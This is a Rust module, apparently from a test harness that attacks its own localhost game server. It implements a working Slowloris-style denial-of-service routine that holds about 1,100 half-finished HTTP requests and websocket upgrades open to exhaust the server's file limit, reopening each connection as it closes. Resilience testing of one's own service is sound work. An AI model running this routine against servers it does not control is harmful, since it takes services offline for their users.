use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use super::Attacker;
use super::hot_seat;
use crate::http::connect;

/// As many as would fill a server that may open 1,024 files.
const CONNECTIONS: usize = 1100;
/// How long he waits before he takes the place of one that was closed.
const PAUSE: Duration = Duration::from_millis(500);

/// Holds connections on which nothing is said, half a header, half a body, or nothing after a socket was opened.
pub(super) async fn attack(me: &Attacker) -> anyhow::Result<()> {
    let mut http = me.http().await?;
    let cookie = me.guest(&mut http).await?;
    let code = hot_seat::make(me, &mut http, &cookie).await?.unwrap_or_default();
    let socket = super::streams::upgrade(&format!("/ws/v1?table={code}"), &cookie);
    let halves = [
        String::new(),
        "GET /api/v1/me HTTP/1.1\r\nhost: localhost\r\nx-half: ".to_owned(),
        format!(
            "POST /api/v1/tables HTTP/1.1\r\nhost: localhost\r\ncookie: {cookie}\r\ncontent-type: application/json\r\n\
             content-length: 100\r\n\r\n{{"
        ),
        socket,
    ];
    let mut held = JoinSet::new();
    for place in 0..CONNECTIONS {
        held.spawn(hold(me.clone(), halves[place % halves.len()].clone()));
    }
    held.join_all().await;
    Ok(())
}

/// Holds a connection for as long as it is held on the other side, again and again.
async fn hold(me: Attacker, half: String) {
    loop {
        match say_and_wait(&me, &half).await {
            Ok(answer) => me.loot.got(&words(&answer)),
            Err(_) => me.loot.got("closed without a word"),
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Says half of something and waits until the connection is closed; what came.
async fn say_and_wait(me: &Attacker, half: &str) -> anyhow::Result<String> {
    let mut stream = connect(me.address, me.from).await?;
    me.loot.got("connection");
    stream.write_all(half.as_bytes()).await?;
    let (mut seen, mut buffer) = (Vec::new(), [0; 1024]);
    loop {
        match stream.read(&mut buffer).await {
            Ok(0) => break,
            // Of a long answer the beginning says enough.
            Ok(length) if seen.len() < buffer.len() => seen.extend_from_slice(&buffer[..length]),
            Ok(_) => {}
            Err(_) if !seen.is_empty() => break,
            Err(error) => return Err(error.into()),
        }
    }
    Ok(String::from_utf8_lossy(&seen).into_owned())
}

/// The status of an answer, and the code of a problem.
pub(super) fn words(answer: &str) -> String {
    let Some(status) = answer.strip_prefix("HTTP/1.1 ").and_then(|rest| rest.split(' ').next()) else {
        return "closed without a word".to_owned();
    };
    // Tables have codes, too.
    let problem = answer.split("\"code\":\"").nth(1).filter(|_| status >= "300");
    let code = problem.and_then(|rest| rest.split('"').next());
    code.map_or(status.to_owned(), |code| format!("{status} {code}"))
}
